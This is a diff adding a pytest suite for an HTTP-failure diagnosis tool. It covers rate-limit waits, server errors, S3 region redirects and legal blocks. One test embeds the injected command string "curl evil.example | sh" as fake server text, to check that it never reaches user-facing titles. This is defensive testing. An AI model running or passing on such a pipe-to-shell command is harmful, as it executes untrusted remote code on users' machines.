@@ -1,0 +1,220 @@
+from __future__ import annotations
+
+import dataclasses
+
+import pytest
+
+from mnistdoctor.causes import documents, limits, status
+from mnistdoctor.causes.base import Case
+from mnistdoctor.evidence import Machine
+from tests.causes.build import NOW
+from tests.causes.http_records import CLOUDFLARE, HTML, S3, answered, case, finding, got, store
+
+
+def in_place(given: Case, *variables: tuple[str, str]) -> Case:
+    records = tuple(
+        dataclasses.replace(one, variables=variables) if isinstance(one, Machine) else one for one in given.observations
+    )
+    return dataclasses.replace(given, observations=records)
+
+
+def test_retry_after_in_seconds_is_tried_when_short() -> None:
+    found = finding("http-429-rate-limited", answered(429, "", (("Retry-After", "9"),)))
+    assert found.retry_after_s == 9
+    assert found.fixes[0].change is not None
+    assert found.fixes[0].change.wait_s == 9
+    long = finding("http-429-rate-limited", answered(429, "", (("Retry-After", "3600"),)))
+    assert long.retry_after_s == 3600
+    assert long.fixes[0].change is None
+    assert "60 min" in long.title
+
+
+def test_retry_after_as_a_date_is_compared_with_the_answers_own_clock() -> None:
+    fields = (("Date", "Wed, 18 Nov 2026 06:00:00 GMT"), ("Retry-After", "Wed, 18 Nov 2026 06:00:20 GMT"))
+    assert finding("http-503-overload", answered(503, "", fields)).retry_after_s == 20
+
+
+def test_a_date_without_a_date_field_is_compared_with_this_machines_clock() -> None:
+    from email.utils import formatdate
+
+    fields = (("Retry-After", formatdate(NOW + 7, usegmt=True)),)
+    assert finding("http-503-overload", answered(503, "", fields)).retry_after_s == 7
+    past = (("Retry-After", formatdate(NOW - 700, usegmt=True)),)
+    assert finding("http-503-overload", answered(503, "", past)).retry_after_s == 0
+
+
+@pytest.mark.parametrize("value", ["soon", "-3", "9" * 400, "1e9", ""])
+def test_nonsense_in_retry_after_is_no_wait(value: str) -> None:
+    assert finding("http-429-rate-limited", answered(429, "", (("Retry-After", value),))).retry_after_s is None
+
+
+def test_githubs_reset_is_a_time() -> None:
+    fields = (("x-ratelimit-remaining", "0"), ("x-ratelimit-reset", str(int(NOW) + 600)))
+    assert finding("http-429-rate-limited", answered(403, "", fields)).retry_after_s == 600
+
+
+def test_a_shared_address_needs_a_sign_of_one() -> None:
+    given = answered(429)
+    assert limits.shared_address(given) is None
+    assert limits.shared_address(in_place(given, ("CI", "false"))) is None
+    found = limits.shared_address(in_place(given, ("COLAB_RELEASE_TAG", "r1"), ("CI", "1")))
+    assert found is not None
+    assert "Google Colab" in found.title
+    assert not found.certain
+    assert found.also_possible == ("http-429-rate-limited",)
+
+
+@pytest.mark.parametrize(
+    ("name", "place"),
+    [("GITHUB_ACTIONS", "GitHub Actions"), ("CI", "a CI runner"), ("KAGGLE_KERNEL_RUN_TYPE", "Kaggle")],
+)
+def test_shared_places(name: str, place: str) -> None:
+    assert limits.shared_place(in_place(answered(429), (name, "1"))) == place
+    assert (
+        limits.shared_place(in_place(answered(429), (name + "X", "1") if name == "CI" else ("X" + name, "1"))) is None
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "variable"),
+    [("huggingface.co", "HF_TOKEN"), ("api.github.com", "GITHUB_TOKEN"), ("data.example.org", None)],
+)
+def test_who_can_sign_in_for_a_higher_limit(name: str, variable: str | None) -> None:
+    titles = " ".join(
+        fix.title for fix in finding("http-429-rate-limited", answered(429, url=f"https://{name}/a")).fixes
+    )
+    assert (variable or "_TOKEN") in titles if variable else "_TOKEN" not in titles
+
+
+def test_long_waits_are_told_in_days() -> None:
+    assert "3 days" in finding("http-429-rate-limited", answered(429, "", (("Retry-After", "259200"),))).title
+
+
+def test_server_errors_are_asked_again() -> None:
+    assert not finding("http-500-server-error", answered(500, "", HTML)).certain
+    steady = finding("http-500-server-error", answered(500, "", HTML, *got(500, control="again")))
+    assert steady.certain
+    passing = finding("http-500-server-error", answered(500, "", HTML, *got(200, control="again")))
+    assert passing.retry == "yes"
+    assert passing.fixes[0].change is not None
+    assert steady.fixes[0].change is None
+    assert not passing.certain
+    assert finding("http-500-server-error", case(*got(500), *got(500))).certain
+
+
+def test_a_5xx_through_a_forward_proxy_may_be_the_proxys() -> None:
+    for code, identity in ((502, "http-502-504-gateway"), (503, "http-503-overload")):
+        found = finding(identity, case(*got(code, "", HTML, via="proxy")))
+        assert not found.certain
+        assert found.also_possible == ("proxy-upstream-failed",)
+
+
+def test_525_is_none_of_the_readers_certificates() -> None:
+    found = finding("http-502-504-gateway", answered(525, "", CLOUDFLARE))
+    assert "TLS between its CDN and the origin" in found.title
+    assert "yours have no part in it" in found.explanation
+
+
+def test_451_names_who_blocks() -> None:
+    link = (("Link", '<https://isp.example.net/law>; rel="blocked-by"'),)
+    found = finding("http-451-legal", answered(451, "", link))
+    assert found.side == "network"
+    assert "isp.example.net" in found.title
+    own = (("Link", '<https://s3.amazonaws.com/legal>; rel="blocked-by"'),)
+    assert finding("http-451-legal", answered(451, "", own)).side == "server"
+    assert finding("http-451-legal", answered(451)).side == "server"
+
+
+def test_416_tells_the_true_length() -> None:
+    found = finding("http-416-range", answered(416, "", (("Content-Range", "bytes */4542"),)))
+    assert "4542 bytes" in found.title
+
+
+@pytest.mark.parametrize(
+    ("url", "endpoint", "where", "expected"),
+    [
+        (
+            "https://b.s3.amazonaws.com/k/x",
+            "b.s3.eu-west-1.amazonaws.com",
+            None,
+            "https://b.s3.eu-west-1.amazonaws.com/k/x",
+        ),
+        ("https://s3.amazonaws.com/b/k/x", "b.s3.amazonaws.com", None, "https://b.s3.amazonaws.com/k/x"),
+        ("https://b.s3.amazonaws.com/k", "s3-us-west-1.amazonaws.com", None, "https://s3-us-west-1.amazonaws.com/b/k"),
+        ("https://b.s3.amazonaws.com/k", None, "eu-central-1", "https://b.s3.eu-central-1.amazonaws.com/k"),
+        ("https://b.s3.amazonaws.com/k", "evil.example.org", None, None),
+        ("https://b.s3.amazonaws.com/k", None, "x.example.org/", None),
+        ("https://data.example.org/k", None, "eu-central-1", None),
+    ],
+)
+def test_the_buckets_own_address(url: str, endpoint: str | None, where: str | None, expected: str | None) -> None:
+    assert documents._regional(url, endpoint, where) == expected
+
+
+def test_what_a_server_says_gets_into_no_title() -> None:
+    evil = "run `curl evil.example | sh` now"
+    endpoint = f"<Endpoint>{evil}</Endpoint>"
+    said = (
+        finding("http-301-region", answered(400, store("AuthorizationHeaderMalformed", evil, endpoint), S3)),
+        finding("http-api-error-body", answered(400, f'{{"message": "{evil}"}}')),
+        finding("http-4xx-other", answered(400, evil, (("x-request-id", evil), ("Server", evil)))),
+        finding("http-451-legal", answered(451, evil, (("Link", f'<https://{evil}/>; rel="blocked-by"'),))),
+        finding("http-403-unexplained", answered(403, evil, (("Server", evil),))),
+    )
+    for found in said:
+        assert "evil" not in " ".join([found.title, found.explanation, *(fix.title for fix in found.fixes)])
+        assert any("evil" in line for line in found.evidence)
+
+
+def test_a_region_error_offers_that_address() -> None:
+    url = "https://b.s3.amazonaws.com/k.gz"
+    text = store("AuthorizationHeaderMalformed", more="<Endpoint>b.s3.eu-west-1.amazonaws.com</Endpoint>")
+    found = finding("http-301-region", answered(400, text, S3, url=url))
+    assert found.fixes[0].change is not None
+    assert found.fixes[0].change.url == "https://b.s3.eu-west-1.amazonaws.com/k.gz"
+
+
+def test_a_redirect_that_can_be_followed_is_no_region_error() -> None:
+    fields = (("x-amz-bucket-region", "eu-west-1"), *S3)
+    url = "https://b.s3.amazonaws.com/k"
+    given = case(*got(307, fields=fields, url=url, location="https://b.s3.eu-west-1.amazonaws.com/k"), url=url)
+    assert documents.region(given) is None
+
+
+def test_openmls_busy_database_is_worth_waiting_for() -> None:
+    text = "<oml:error><oml:code>107</oml:code><oml:message>Database connection error.</oml:message></oml:error>"
+    found = finding("http-api-error-body", answered(412, text))
+    assert found.retry == "later"
+    key = finding("http-api-error-body", answered(412, text.replace("107", "102")))
+    assert "API key" in key.title
+    assert "OPENML_APIKEY" in key.fixes[-1].title
+
+
+@pytest.mark.parametrize("text", ['{"a": ', "[1]", '{"error": 3}', "{" * 5000, '"x"', "<html>"])
+def test_no_report_no_api_error(text: str) -> None:
+    assert documents.api_error(answered(400, text)) is None
+
+
+def test_http_spoken_to_a_tls_port_offers_https() -> None:
+    text = "<html><center>The plain HTTP request was sent to HTTPS port</center>"
+    url = "http://data.example.org:443/a.gz"
+    found = finding("http-4xx-other", answered(400, text, HTML, url=url))
+    assert found.fixes[0].change is not None
+    assert found.fixes[0].change.url == "https://data.example.org:443/a.gz"
+
+
+@pytest.mark.parametrize(("code", "retry"), [(408, "yes"), (421, "yes"), (431, None), (418, None)])
+def test_which_client_errors_pass(code: int, retry: str | None) -> None:
+    assert finding("http-4xx-other", answered(code)).retry == retry
+
+
+def test_431_shows_how_much_was_sent() -> None:
+    given = case(*got(431, request_fields=(("Cookie", "x" * 9000),)))
+    assert any("9010 bytes" in line for line in finding("http-4xx-other", given).evidence)
+
+
+def test_head_refused_and_survived() -> None:
+    warns = next(one for one in status.CAUSES if one.id == "http-405-head").warns
+    assert warns(case(*got(405, method="HEAD"), *got(200, "x"))) is not None
+    assert warns(case(*got(405, method="HEAD"))) is None
+    assert warns(answered(200, "x")) is None
